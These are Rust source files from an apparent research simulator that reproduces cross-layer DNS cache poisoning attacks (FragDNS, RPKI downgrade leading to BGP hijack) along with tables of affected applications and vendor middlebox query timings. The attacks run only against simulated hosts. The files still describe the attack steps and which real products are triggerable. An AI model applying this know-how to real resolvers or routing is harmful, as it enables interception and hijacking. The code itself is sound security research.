        .vector(Box::new(rpki_downgrade_vector()))
        .exploit(RpkiDowngradeExploit::standard())
        .run();
    let Some(ExploitVerdict::Rpki { validity: validity_before, hijack_accepted: accepted_before }) = outcome.before
    else {
        unreachable!("RPKI stage yields Rpki verdicts")
    };
    let Some(ExploitVerdict::Rpki { validity: validity_after, hijack_accepted: accepted_after }) = outcome.exploit
    else {
        unreachable!("RPKI stage yields Rpki verdicts")
    };

    println!("== Cross-layer attack: DNS poisoning -> RPKI downgrade -> BGP hijack ==");
    println!();
    println!("step 1: poison the resolver used by the RPKI relying party");
    println!("        repository hostname poisoned: {}", outcome.report.success);
    println!();
    println!("step 2: the relying party synchronises against the attacker's host");
    println!("        validation of the hijacked announcement before: {validity_before:?}");
    println!("        validation of the hijacked announcement after : {validity_after:?}");
    println!();
    println!("step 3: the attacker announces the victim's prefix");
    println!("        hijack accepted by ROV-enforcing ASes before the attack: {accepted_before}");
    println!("        hijack accepted by ROV-enforcing ASes after the attack : {accepted_after}");
    println!();
    if !accepted_before && accepted_after {
        println!("result: route origin validation was neutralised by DNS cache poisoning.");
    } else {
        println!("result: the downgrade did not complete (see fields above).");
    }
}
