//! Quickstart: poison a resolver cache with FragDNS in a tiny simulated
//! Internet (the message flow of Figure 2).
//!
//! ```text
//! cargo run --example quickstart
//! ```

use cross_layer_attacks::attacks::prelude::*;
use cross_layer_attacks::dns::prelude::*;

fn main() {
    // Build the standard victim environment of the paper's Section 3 setup:
    // a victim AS (resolver + client), the target domain's nameserver, and an
    // off-path attacker that can spoof source addresses.
    let (mut sim, env) = VictimEnvConfig::default().build();

    println!("victim resolver : {}", env.resolver_addr);
    println!("nameserver      : {} (announces {})", env.nameserver_addr, env.nameserver_prefix);
    println!("attacker        : {}", env.attacker_addr);
    println!();

    // Run the FragDNS attack: spoofed ICMP 'fragmentation needed', planted
    // second fragments with a checksum-compensated malicious tail, then a
    // triggered ANY query.
    let attack = FragDnsAttack::new(FragDnsConfig::new(env.attacker_addr));
    let report = attack.run(&mut sim, &env);

    println!("== FragDNS attack report ==");
    println!("success          : {}", report.success);
    println!("queries triggered: {}", report.queries_triggered);
    println!("attacker packets : {}", report.attacker_packets);
    println!("simulated time   : {}", report.duration);
    for note in &report.notes {
        println!("note: {note}");
    }
    println!();

    // Show the poisoned cache entry.
    let ns_glue: DomainName = "ns1.vict.im".parse().unwrap();
    let poisoned = env.resolver(&sim).cache().cached_a(&ns_glue, sim.now());
    println!("cache entry for {ns_glue}: {poisoned:?} (attacker is {})", env.attacker_addr);

    // And the packet-level trace of the attack (Figure 2's message flow).
    println!();
    println!("== last packets of the attack (trace excerpt) ==");
    let entries = sim.trace().entries();
    for entry in entries.iter().rev().take(12).rev() {
        println!("{entry}");
    }
}
