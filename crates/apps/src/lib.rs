//! # apps — the applications attacked through poisoned DNS caches
//!
//! Behavioural models of the nine application categories of Table 1 and the
//! middleboxes of Table 2:
//!
//! * [`taxonomy`] — the twenty application/protocol rows of Table 1: how each
//!   uses DNS, who controls the queried name, how queries are triggered,
//!   which poisoning methodologies apply, and what the attacker gains;
//! * [`middlebox`] — the query-triggering and caching behaviour of firewalls,
//!   load balancers, CDNs and managed-DNS ALIAS providers (Table 2);
//! * [`exploit`] — what each application *does* with a poisoned answer:
//!   SPF/DKIM downgrade, mail interception, password-recovery account
//!   takeover, NTP time shifting, Radius and VPN denial of service, XMPP and
//!   opportunistic-IPsec interception, Bitcoin eclipse, OCSP soft-fail,
//!   fraudulent domain validation, firewall-filter bypass.
//!
//! The end-to-end cross-layer scenarios (trigger → poison → exploit) that
//! combine these models with the attack drivers live in `xlayer-core`.
#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod exploit;
pub mod middlebox;
pub mod taxonomy;

/// Convenience re-exports.
pub mod prelude {
    pub use crate::exploit::*;
    pub use crate::middlebox::{
        table2_middleboxes, CachingBehaviour, MiddleboxProfile, MiddleboxType, TriggerBehaviour,
    };
    pub use crate::taxonomy::{
        table1_applications, ApplicationProfile, Category, DnsUse, Impact, QueryNameControl, TriggerMethod,
    };
}

pub use prelude::*;
