//! Query-triggering behaviour of middleboxes and managed-DNS providers —
//! the reproduction of Table 2.
//!
//! Middleboxes resolve configured hostnames themselves (firewall filter
//! lists, load-balancer backends, CDN origins, ANAME/ALIAS flattening).
//! Whether an external attacker can *make* them query (on-demand) or has to
//! *predict* a timer determines which poisoning methodologies are practical
//! against them (Section 4.3 / Table 1 footnote 2).

use netsim::prelude::Duration;
use serde::{Deserialize, Serialize};

/// The middlebox type groups of Table 2.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum MiddleboxType {
    /// Stateful firewalls resolving filter-list hostnames.
    Firewall,
    /// Load balancers resolving backend pool members.
    LoadBalancer,
    /// Content delivery networks resolving origin hostnames.
    Cdn,
    /// Managed DNS providers offering ANAME/ALIAS flattening.
    ManagedDnsAlias,
}

/// When the middlebox issues its DNS queries.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum TriggerBehaviour {
    /// Queries are re-issued on a fixed timer, independent of client traffic.
    Timer(Duration),
    /// Queries are issued on demand when client requests arrive (an external
    /// attacker can trigger them at will).
    OnDemand,
}

/// How long the looked-up records are used before being refreshed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum CachingBehaviour {
    /// Honours the record TTL.
    HonoursTtl,
    /// Uses a fixed internal refresh interval regardless of TTL.
    Fixed(Duration),
}

/// One row of Table 2.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct MiddleboxProfile {
    /// Middlebox type.
    pub kind: MiddleboxType,
    /// Vendor / provider as listed in the paper.
    pub provider: &'static str,
    /// When it queries.
    pub trigger: TriggerBehaviour,
    /// How it caches.
    pub caching: CachingBehaviour,
    /// Number of Alexa-100K websites using this provider (the paper's last column).
    pub alexa_100k_sites: u32,
}

impl MiddleboxProfile {
    /// Whether an external attacker can trigger queries on demand.
    pub fn externally_triggerable(&self) -> bool {
        matches!(self.trigger, TriggerBehaviour::OnDemand)
    }

    /// The window within which an attacker must predict the next query when
    /// it cannot trigger one (timer-driven devices).
    pub fn prediction_window(&self) -> Option<Duration> {
        match self.trigger {
            TriggerBehaviour::Timer(d) => Some(d),
            TriggerBehaviour::OnDemand => None,
        }
    }
}

/// All twelve provider rows of Table 2.
pub fn table2_middleboxes() -> Vec<MiddleboxProfile> {
    use CachingBehaviour::*;
    use MiddleboxType::*;
    use TriggerBehaviour::*;
    vec![
        MiddleboxProfile {
            kind: Firewall,
            provider: "pfSense",
            trigger: Timer(Duration::from_secs(500)),
            caching: Fixed(Duration::from_secs(500)),
            alexa_100k_sites: 0,
        },
        MiddleboxProfile {
            kind: Firewall,
            provider: "Sophos UTM",
            trigger: Timer(Duration::from_secs(240)),
            caching: Fixed(Duration::from_secs(240)),
            alexa_100k_sites: 0,
        },
        MiddleboxProfile {
            kind: LoadBalancer,
            provider: "Kemp Technologies",
            trigger: Timer(Duration::from_secs(3600)),
            caching: Fixed(Duration::from_secs(3600)),
            alexa_100k_sites: 0,
        },
        MiddleboxProfile {
            kind: LoadBalancer,
            provider: "F5 Networks",
            trigger: Timer(Duration::from_secs(3600)),
            caching: Fixed(Duration::from_secs(3600)),
            alexa_100k_sites: 0,
        },
        MiddleboxProfile {
            kind: Cdn,
            provider: "Stackpath",
            trigger: OnDemand,
            caching: HonoursTtl,
            alexa_100k_sites: 79,
        },
        MiddleboxProfile {
            kind: Cdn,
            provider: "Fastly",
            trigger: Timer(Duration::from_secs(60)),
            caching: HonoursTtl,
            alexa_100k_sites: 1_143,
        },
        MiddleboxProfile {
            kind: Cdn,
            provider: "AWS",
            trigger: OnDemand,
            caching: HonoursTtl,
            alexa_100k_sites: 11_057,
        },
        MiddleboxProfile {
            kind: Cdn,
            provider: "Cloudflare",
            trigger: OnDemand,
            caching: HonoursTtl,
            alexa_100k_sites: 17_393,
        },
        MiddleboxProfile {
            kind: ManagedDnsAlias,
            provider: "DNSimple",
            trigger: OnDemand,
            caching: HonoursTtl,
            alexa_100k_sites: 248,
        },
        MiddleboxProfile {
            kind: ManagedDnsAlias,
            provider: "DNS Made Easy",
            trigger: Timer(Duration::from_secs(2100)),
            caching: Fixed(Duration::from_secs(2100)),
            alexa_100k_sites: 1_192,
        },
        MiddleboxProfile {
            kind: ManagedDnsAlias,
            provider: "Oracle Cloud",
            trigger: OnDemand,
            caching: HonoursTtl,
            alexa_100k_sites: 1_382,
        },
        MiddleboxProfile {
            kind: ManagedDnsAlias,
            provider: "Cloudflare (ALIAS)",
            trigger: OnDemand,
            caching: HonoursTtl,
            alexa_100k_sites: 20_027,
        },
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn twelve_provider_rows() {
        assert_eq!(table2_middleboxes().len(), 12);
    }

    #[test]
    fn firewalls_and_lbs_are_timer_driven() {
        for row in table2_middleboxes() {
            match row.kind {
                MiddleboxType::Firewall | MiddleboxType::LoadBalancer => {
                    assert!(!row.externally_triggerable(), "{} should be timer-driven", row.provider);
                    assert!(row.prediction_window().is_some());
                }
                _ => {}
            }
        }
    }

    #[test]
    fn most_cdn_and_alias_providers_are_on_demand() {
        let rows = table2_middleboxes();
        let on_demand = rows
            .iter()
            .filter(|r| matches!(r.kind, MiddleboxType::Cdn | MiddleboxType::ManagedDnsAlias))
            .filter(|r| r.externally_triggerable())
            .count();
        assert_eq!(on_demand, 6, "6 of the 8 CDN/ALIAS providers are on-demand");
    }

    #[test]
    fn alexa_share_dominated_by_cloudflare_and_aws() {
        let rows = table2_middleboxes();
        let total: u32 = rows.iter().map(|r| r.alexa_100k_sites).sum();
        let big: u32 = rows
            .iter()
            .filter(|r| r.provider.starts_with("Cloudflare") || r.provider == "AWS")
            .map(|r| r.alexa_100k_sites)
            .sum();
        assert!(big * 2 > total, "Cloudflare + AWS host most affected Alexa-100K sites");
        assert!(total > 50_000);
    }

    #[test]
    fn prediction_windows_match_paper_values() {
        let rows = table2_middleboxes();
        let pfsense = rows.iter().find(|r| r.provider == "pfSense").unwrap();
        assert_eq!(pfsense.prediction_window(), Some(Duration::from_secs(500)));
        let sophos = rows.iter().find(|r| r.provider == "Sophos UTM").unwrap();
        assert_eq!(sophos.prediction_window(), Some(Duration::from_secs(240)));
    }
}
