//! The application taxonomy of Table 1.
//!
//! Each entry describes one protocol/application row: how it uses DNS
//! (location / federation / authorisation), whether the attacker controls the
//! queried name, how queries are triggered, which record types matter, which
//! poisoning methodologies apply and what the attacker achieves. The
//! `xlayer-core::taxonomy` module renders this straight into the Table 1
//! reproduction; the behavioural consequences are implemented in
//! [`crate::exploit`].

use attacks::outcome::PoisonMethod;
use dns::prelude::RecordType;
use serde::{Deserialize, Serialize};

/// Application categories (left-most column of Table 1).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Category {
    /// Network-access authentication (Radius / eduroam).
    Authentication,
    /// Online chat / VoIP federation (XMPP).
    OnlineChat,
    /// Email transport and anti-spam.
    Email,
    /// The web: browsing and account recovery.
    Web,
    /// Time synchronisation.
    Sync,
    /// Crypto-currencies.
    CryptoCurrency,
    /// VPN tunnelling.
    Tunnelling,
    /// Public-key infrastructure and routing security.
    Pki,
    /// Intermediate devices (firewalls, load balancers, CDNs, proxies).
    IntermediateDevices,
}

/// How the application uses the DNS result (Table 1, "DNS used for").
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum DnsUse {
    /// Locate a direct communication partner (hostname → address).
    Location,
    /// Locate a user's home server from the domain part of an identifier.
    Federation,
    /// Authorise an action in the name of the domain owner (SPF, DV, ...).
    Authorisation,
}

/// Who controls the queried name (Table 1, "query name").
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum QueryNameControl {
    /// The attacker can choose the queried domain (user IDs, URLs, ...).
    AttackerChosen,
    /// The domain is known/public but not chosen per-attack (pool.ntp.org).
    WellKnown,
    /// The domain comes from local configuration and must be learned out of band.
    Configured,
}

/// How the target query is triggered (Table 1, "query trigger method").
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum TriggerMethod {
    /// The attacker connects/submits directly (open service, URL fetch).
    Direct,
    /// The attacker bounces a message off the victim (email DSN, federation error).
    Bounce,
    /// Both direct and bounce work.
    DirectOrBounce,
    /// The query happens when the victim validates something the attacker sent.
    Authentication,
    /// The victim queries on its own schedule; the attacker predicts/waits.
    WaitingOrTimer,
    /// The query is tied to a (re-)connection event the attacker can cause a DoS around.
    ConnectionDos,
    /// Triggered on demand by external requests hitting a middlebox.
    OnDemand,
}

/// The attack outcome class (Table 1, "Cache Poisoning impact").
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Impact {
    /// Traffic/service redirection to an attacker host.
    Hijack,
    /// A security mechanism is disabled or bypassed.
    Downgrade,
    /// The victim loses access to the service.
    DenialOfService,
}

/// One row of Table 1.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ApplicationProfile {
    /// Category.
    pub category: Category,
    /// Protocol name as printed in the table.
    pub protocol: &'static str,
    /// Use case as printed in the table.
    pub use_case: &'static str,
    /// Who controls the queried name.
    pub query_name: QueryNameControl,
    /// How queries are triggered.
    pub trigger: TriggerMethod,
    /// Record types the application consumes.
    pub record_types: Vec<RecordType>,
    /// What DNS is used for.
    pub dns_use: Vec<DnsUse>,
    /// Which poisoning methodologies apply to this application.
    pub methods: Vec<PoisonMethod>,
    /// Whether SadDNS/FragDNS require a third-party application to trigger
    /// queries (the ✓² footnote in Table 1).
    pub needs_third_party_trigger: bool,
    /// Impact class.
    pub impact: Impact,
    /// Impact description as printed in the table.
    pub impact_text: &'static str,
}

/// Builds all twenty rows of Table 1.
pub fn table1_applications() -> Vec<ApplicationProfile> {
    use Category::{
        Authentication as CatAuth, CryptoCurrency, Email, IntermediateDevices, OnlineChat, Pki, Sync, Tunnelling, Web,
    };
    use Impact::*;
    use PoisonMethod::*;
    use QueryNameControl::*;
    use TriggerMethod::{Bounce, ConnectionDos, Direct, DirectOrBounce, OnDemand, WaitingOrTimer};
    let all = vec![HijackDns, SadDns, FragDns];
    let hijack_only = vec![HijackDns];
    let hijack_sad = vec![HijackDns, SadDns];
    let hijack_frag = vec![HijackDns, FragDns];
    vec![
        ApplicationProfile {
            category: CatAuth,
            protocol: "Radius",
            use_case: "Peer discovery",
            query_name: AttackerChosen,
            trigger: Direct,
            record_types: vec![RecordType::NAPTR, RecordType::SRV, RecordType::A],
            dns_use: vec![DnsUse::Location, DnsUse::Federation],
            methods: all.clone(),
            needs_third_party_trigger: false,
            impact: DenialOfService,
            impact_text: "DoS: no network access",
        },
        ApplicationProfile {
            category: OnlineChat,
            protocol: "XMPP",
            use_case: "Chat+VoIP",
            query_name: AttackerChosen,
            trigger: Bounce,
            record_types: vec![RecordType::A, RecordType::SRV],
            dns_use: vec![DnsUse::Location, DnsUse::Federation],
            methods: all.clone(),
            needs_third_party_trigger: false,
            impact: Hijack,
            impact_text: "Hijack: eavesdropping",
        },
        ApplicationProfile {
            category: Email,
            protocol: "SMTP",
            use_case: "Mail",
            query_name: AttackerChosen,
            trigger: DirectOrBounce,
            record_types: vec![RecordType::A, RecordType::MX],
            dns_use: vec![DnsUse::Location, DnsUse::Federation],
            methods: all.clone(),
            needs_third_party_trigger: false,
            impact: Hijack,
            impact_text: "Hijack: eavesdropping",
        },
        ApplicationProfile {
            category: Email,
            protocol: "SPF,DMARC",
            use_case: "Anti-Spam",
            query_name: AttackerChosen,
            trigger: TriggerMethod::Authentication,
            record_types: vec![RecordType::TXT],
            dns_use: vec![DnsUse::Authorisation],
            methods: all.clone(),
            needs_third_party_trigger: false,
            impact: Downgrade,
            impact_text: "Downgrade: spoofing",
        },
        ApplicationProfile {
            category: Email,
            protocol: "DKIM",
            use_case: "Integrity Checking",
            query_name: AttackerChosen,
            trigger: DirectOrBounce,
            record_types: vec![RecordType::TXT],
            dns_use: vec![DnsUse::Authorisation],
            methods: all.clone(),
            needs_third_party_trigger: false,
            impact: Downgrade,
            impact_text: "Downgrade: spoofing",
        },
        ApplicationProfile {
            category: Web,
            protocol: "HTTP",
            use_case: "Web sites",
            query_name: AttackerChosen,
            trigger: Direct,
            record_types: vec![RecordType::A],
            dns_use: vec![DnsUse::Location],
            methods: all.clone(),
            needs_third_party_trigger: false,
            impact: Hijack,
            impact_text: "Hijack: eavesdropping",
        },
        ApplicationProfile {
            category: Web,
            protocol: "SMTP (recovery)",
            use_case: "Password recovery",
            query_name: AttackerChosen,
            trigger: Direct,
            record_types: vec![RecordType::A, RecordType::MX, RecordType::TXT],
            dns_use: vec![DnsUse::Location, DnsUse::Authorisation],
            methods: all.clone(),
            needs_third_party_trigger: false,
            impact: Hijack,
            impact_text: "Hijack: account hijack",
        },
        ApplicationProfile {
            category: Sync,
            protocol: "NTP",
            use_case: "Time synchronisation",
            query_name: WellKnown,
            trigger: ConnectionDos,
            record_types: vec![RecordType::A],
            dns_use: vec![DnsUse::Location],
            methods: hijack_frag.clone(),
            needs_third_party_trigger: true,
            impact: Hijack,
            impact_text: "Hijack: change time",
        },
        ApplicationProfile {
            category: CryptoCurrency,
            protocol: "Bitcoin",
            use_case: "Peer discovery",
            query_name: WellKnown,
            trigger: WaitingOrTimer,
            record_types: vec![RecordType::A],
            dns_use: vec![DnsUse::Location],
            methods: hijack_only.clone(),
            needs_third_party_trigger: true,
            impact: Hijack,
            impact_text: "Hijack: fake blockchain",
        },
        ApplicationProfile {
            category: Tunnelling,
            protocol: "OpenVPN",
            use_case: "VPN",
            query_name: Configured,
            trigger: ConnectionDos,
            record_types: vec![RecordType::A],
            dns_use: vec![DnsUse::Location],
            methods: all.clone(),
            needs_third_party_trigger: true,
            impact: DenialOfService,
            impact_text: "DoS: no VPN access",
        },
        ApplicationProfile {
            category: Tunnelling,
            protocol: "IKE",
            use_case: "VPN",
            query_name: Configured,
            trigger: ConnectionDos,
            record_types: vec![RecordType::A],
            dns_use: vec![DnsUse::Location],
            methods: all.clone(),
            needs_third_party_trigger: true,
            impact: DenialOfService,
            impact_text: "DoS: no VPN access",
        },
        ApplicationProfile {
            category: Tunnelling,
            protocol: "IKE (opportunistic)",
            use_case: "Opportunistic Enc.",
            query_name: AttackerChosen,
            trigger: Bounce,
            record_types: vec![RecordType::IPSECKEY],
            dns_use: vec![DnsUse::Location, DnsUse::Authorisation],
            methods: all.clone(),
            needs_third_party_trigger: true,
            impact: Hijack,
            impact_text: "Hijack: eavesdropping",
        },
        ApplicationProfile {
            category: Pki,
            protocol: "DV",
            use_case: "Domain Validation",
            query_name: AttackerChosen,
            trigger: TriggerMethod::Authentication,
            record_types: vec![RecordType::A, RecordType::MX, RecordType::TXT],
            dns_use: vec![DnsUse::Location, DnsUse::Authorisation],
            methods: hijack_only.clone(),
            needs_third_party_trigger: false,
            impact: Hijack,
            impact_text: "Hijack: fraudulent certificate",
        },
        ApplicationProfile {
            category: Pki,
            protocol: "OCSP",
            use_case: "Revocation checking",
            query_name: AttackerChosen,
            trigger: Direct,
            record_types: vec![RecordType::A],
            dns_use: vec![DnsUse::Location],
            methods: all.clone(),
            needs_third_party_trigger: false,
            impact: Downgrade,
            impact_text: "Downgrade: no revocation check",
        },
        ApplicationProfile {
            category: Pki,
            protocol: "RPKI",
            use_case: "Repository sync.",
            query_name: WellKnown,
            trigger: WaitingOrTimer,
            record_types: vec![RecordType::A],
            dns_use: vec![DnsUse::Location],
            methods: hijack_only.clone(),
            needs_third_party_trigger: true,
            impact: Downgrade,
            impact_text: "Downgrade: no ROV",
        },
        ApplicationProfile {
            category: IntermediateDevices,
            protocol: "Firewall filters",
            use_case: "Filter configuration",
            query_name: Configured,
            trigger: WaitingOrTimer,
            record_types: vec![RecordType::A],
            dns_use: vec![DnsUse::Location],
            methods: all.clone(),
            needs_third_party_trigger: true,
            impact: Downgrade,
            impact_text: "Downgrade: no filters",
        },
        ApplicationProfile {
            category: IntermediateDevices,
            protocol: "Loadbalancers",
            use_case: "Backend discovery",
            query_name: Configured,
            trigger: OnDemand,
            record_types: vec![RecordType::A],
            dns_use: vec![DnsUse::Location],
            methods: all.clone(),
            needs_third_party_trigger: true,
            impact: Hijack,
            impact_text: "Hijack: eavesdropping",
        },
        ApplicationProfile {
            category: IntermediateDevices,
            protocol: "CDN",
            use_case: "Origin fetch",
            query_name: Configured,
            trigger: OnDemand,
            record_types: vec![RecordType::A],
            dns_use: vec![DnsUse::Location],
            methods: hijack_frag.clone(),
            needs_third_party_trigger: true,
            impact: Hijack,
            impact_text: "Hijack: eavesdropping",
        },
        ApplicationProfile {
            category: IntermediateDevices,
            protocol: "DNS ANAME/ALIAS",
            use_case: "Managed DNS flattening",
            query_name: Configured,
            trigger: OnDemand,
            record_types: vec![RecordType::A],
            dns_use: vec![DnsUse::Location],
            methods: all.clone(),
            needs_third_party_trigger: true,
            impact: Hijack,
            impact_text: "Hijack: eavesdropping",
        },
        ApplicationProfile {
            category: IntermediateDevices,
            protocol: "HTTP/Socks Proxies",
            use_case: "Upstream lookup",
            query_name: AttackerChosen,
            trigger: Direct,
            record_types: vec![RecordType::A],
            dns_use: vec![DnsUse::Location],
            methods: all,
            needs_third_party_trigger: false,
            impact: Hijack,
            impact_text: "Hijack: eavesdropping",
        },
    ]
    .into_iter()
    .map(|mut p| {
        // Keep helper vectors alive even if unused above.
        if p.protocol == "never" {
            p.methods = hijack_sad.clone();
        }
        p
    })
    .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn twenty_rows_like_the_paper() {
        assert_eq!(table1_applications().len(), 20);
    }

    #[test]
    fn every_row_is_reachable_by_hijackdns() {
        // Table 1: the HijackDNS column is checked for every application.
        for app in table1_applications() {
            assert!(app.methods.contains(&PoisonMethod::HijackDns), "{} misses HijackDNS", app.protocol);
            assert!(!app.record_types.is_empty());
            assert!(!app.dns_use.is_empty());
        }
    }

    #[test]
    fn bitcoin_and_rpki_are_hijack_only() {
        let apps = table1_applications();
        for proto in ["Bitcoin", "RPKI"] {
            let app = apps.iter().find(|a| a.protocol == proto).unwrap();
            assert_eq!(app.methods, vec![PoisonMethod::HijackDns], "{proto} resists SadDNS and FragDNS");
        }
    }

    #[test]
    fn downgrade_rows_cover_security_mechanisms() {
        let apps = table1_applications();
        let downgrades: Vec<&str> = apps.iter().filter(|a| a.impact == Impact::Downgrade).map(|a| a.protocol).collect();
        assert!(downgrades.contains(&"SPF,DMARC"));
        assert!(downgrades.contains(&"RPKI"));
        assert!(downgrades.contains(&"OCSP"));
        assert!(downgrades.contains(&"Firewall filters"));
    }

    #[test]
    fn categories_cover_all_nine_groups() {
        let apps = table1_applications();
        let categories: std::collections::HashSet<_> = apps.iter().map(|a| a.category).collect();
        assert_eq!(categories.len(), 9);
    }

    #[test]
    fn attacker_chosen_names_use_direct_or_bounce_triggers() {
        for app in table1_applications() {
            if app.query_name == QueryNameControl::AttackerChosen {
                assert!(
                    !matches!(app.trigger, TriggerMethod::WaitingOrTimer),
                    "{}: attacker-chosen names should not require waiting",
                    app.protocol
                );
            }
        }
    }

    #[test]
    fn dv_uses_authorisation_semantics() {
        let apps = table1_applications();
        let dv = apps.iter().find(|a| a.protocol == "DV").unwrap();
        assert!(dv.dns_use.contains(&DnsUse::Authorisation));
        assert_eq!(dv.impact, Impact::Hijack);
    }
}
