//! Simulated time.
//!
//! The simulator uses its own monotonically increasing clock measured in
//! nanoseconds since the start of the experiment. Wrapping the value in a
//! newtype keeps wall-clock time (`std::time`) out of the simulation so that
//! experiments are fully deterministic and can be run faster than real time.

use serde::{Deserialize, Serialize};
use std::fmt;
use std::ops::{Add, AddAssign, Sub};

/// A span of simulated time, in nanoseconds.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default, Serialize, Deserialize)]
pub struct Duration(u64);

impl Duration {
    /// The zero-length duration.
    pub const ZERO: Duration = Duration(0);

    /// Creates a duration from whole nanoseconds.
    pub const fn from_nanos(nanos: u64) -> Self {
        Duration(nanos)
    }

    /// Creates a duration from whole microseconds.
    pub const fn from_micros(micros: u64) -> Self {
        Duration(micros * 1_000)
    }

    /// Creates a duration from whole milliseconds.
    pub const fn from_millis(millis: u64) -> Self {
        Duration(millis * 1_000_000)
    }

    /// Creates a duration from whole seconds.
    pub const fn from_secs(secs: u64) -> Self {
        Duration(secs * 1_000_000_000)
    }

    /// Creates a duration from fractional seconds.
    pub fn from_secs_f64(secs: f64) -> Self {
        Duration((secs * 1e9).round().max(0.0) as u64)
    }

    /// The duration expressed in nanoseconds.
    pub const fn as_nanos(self) -> u64 {
        self.0
    }

    /// The duration expressed in whole milliseconds (truncating).
    pub const fn as_millis(self) -> u64 {
        self.0 / 1_000_000
    }

    /// The duration expressed in fractional seconds.
    pub fn as_secs_f64(self) -> f64 {
        self.0 as f64 / 1e9
    }

    /// Saturating multiplication by an integer factor.
    pub const fn saturating_mul(self, factor: u64) -> Duration {
        Duration(self.0.saturating_mul(factor))
    }

    /// Checked subtraction: `None` when `other` is larger than `self`.
    pub fn checked_sub(self, other: Duration) -> Option<Duration> {
        self.0.checked_sub(other.0).map(Duration)
    }
}

impl Add for Duration {
    type Output = Duration;
    fn add(self, rhs: Duration) -> Duration {
        Duration(self.0.saturating_add(rhs.0))
    }
}

impl AddAssign for Duration {
    fn add_assign(&mut self, rhs: Duration) {
        self.0 = self.0.saturating_add(rhs.0);
    }
}

impl Sub for Duration {
    type Output = Duration;
    fn sub(self, rhs: Duration) -> Duration {
        Duration(self.0.saturating_sub(rhs.0))
    }
}

impl fmt::Display for Duration {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.0 >= 1_000_000_000 {
            write!(f, "{:.3}s", self.as_secs_f64())
        } else if self.0 >= 1_000_000 {
            write!(f, "{:.3}ms", self.0 as f64 / 1e6)
        } else {
            write!(f, "{}ns", self.0)
        }
    }
}

/// An instant on the simulated clock (nanoseconds since experiment start).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default, Serialize, Deserialize)]
pub struct SimTime(u64);

impl SimTime {
    /// The start of the experiment.
    pub const ZERO: SimTime = SimTime(0);

    /// Builds an instant from nanoseconds since experiment start.
    pub const fn from_nanos(nanos: u64) -> Self {
        SimTime(nanos)
    }

    /// Builds an instant from seconds since experiment start.
    pub const fn from_secs(secs: u64) -> Self {
        SimTime(secs * 1_000_000_000)
    }

    /// Nanoseconds since experiment start.
    pub const fn as_nanos(self) -> u64 {
        self.0
    }

    /// Fractional seconds since experiment start.
    pub fn as_secs_f64(self) -> f64 {
        self.0 as f64 / 1e9
    }

    /// Time elapsed since `earlier`; zero when `earlier` is in the future.
    pub fn duration_since(self, earlier: SimTime) -> Duration {
        Duration(self.0.saturating_sub(earlier.0))
    }

    /// The instant `d` after `self`.
    pub fn after(self, d: Duration) -> SimTime {
        SimTime(self.0.saturating_add(d.as_nanos()))
    }
}

impl Add<Duration> for SimTime {
    type Output = SimTime;
    fn add(self, rhs: Duration) -> SimTime {
        self.after(rhs)
    }
}

impl fmt::Display for SimTime {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "t+{:.6}s", self.as_secs_f64())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn duration_constructors_agree() {
        assert_eq!(Duration::from_secs(2), Duration::from_millis(2_000));
        assert_eq!(Duration::from_millis(3), Duration::from_micros(3_000));
        assert_eq!(Duration::from_micros(5), Duration::from_nanos(5_000));
    }

    #[test]
    fn duration_arithmetic() {
        let a = Duration::from_millis(10);
        let b = Duration::from_millis(4);
        assert_eq!((a + b).as_millis(), 14);
        assert_eq!((a - b).as_millis(), 6);
        // Subtraction saturates instead of panicking.
        assert_eq!((b - a).as_nanos(), 0);
        assert_eq!(b.checked_sub(a), None);
        assert_eq!(a.checked_sub(b), Some(Duration::from_millis(6)));
    }

    #[test]
    fn simtime_ordering_and_elapsed() {
        let t0 = SimTime::ZERO;
        let t1 = t0 + Duration::from_secs(1);
        assert!(t1 > t0);
        assert_eq!(t1.duration_since(t0), Duration::from_secs(1));
        assert_eq!(t0.duration_since(t1), Duration::ZERO);
    }

    #[test]
    fn from_secs_f64_rounds() {
        assert_eq!(Duration::from_secs_f64(0.5).as_millis(), 500);
        assert_eq!(Duration::from_secs_f64(-1.0), Duration::ZERO);
    }

    #[test]
    fn display_formats() {
        assert_eq!(format!("{}", Duration::from_secs(2)), "2.000s");
        assert_eq!(format!("{}", Duration::from_millis(5)), "5.000ms");
        assert_eq!(format!("{}", Duration::from_nanos(10)), "10ns");
    }
}
