//! The generic, object-safe transport socket API.
//!
//! Every simulated host used to hand-roll `UdpDatagram` construction against
//! its [`HostStack`](crate::stack::HostStack); this module puts a uniform,
//! transport-agnostic surface in between so the DNS nodes (and any future
//! application) can speak UDP or TCP through the same four calls:
//!
//! * [`Transport`] — an object-safe factory binding a port on a host stack
//!   and returning a `Box<dyn Socket>` ([`UdpTransport`],
//!   [`TcpTransport`]);
//! * [`Socket`] — an object-safe bound socket: `send_to` turns application
//!   payloads into wire packets (a single datagram for UDP; handshake,
//!   MSS-sized segments and teardown for TCP), `handle` consumes host-stack
//!   events and surfaces [`SocketEvent`]s;
//! * [`StackIo`] — the bundle of host stack, simulated time and seeded RNG a
//!   socket needs to build packets (IP-ID allocation, path-MTU lookups,
//!   initial sequence numbers) plus the outgoing packet queue.
//!
//! ## Example: a TCP exchange between two host stacks
//!
//! The sockets are pure state machines over packets, so two stacks can be
//! wired back-to-back without the discrete-event engine:
//!
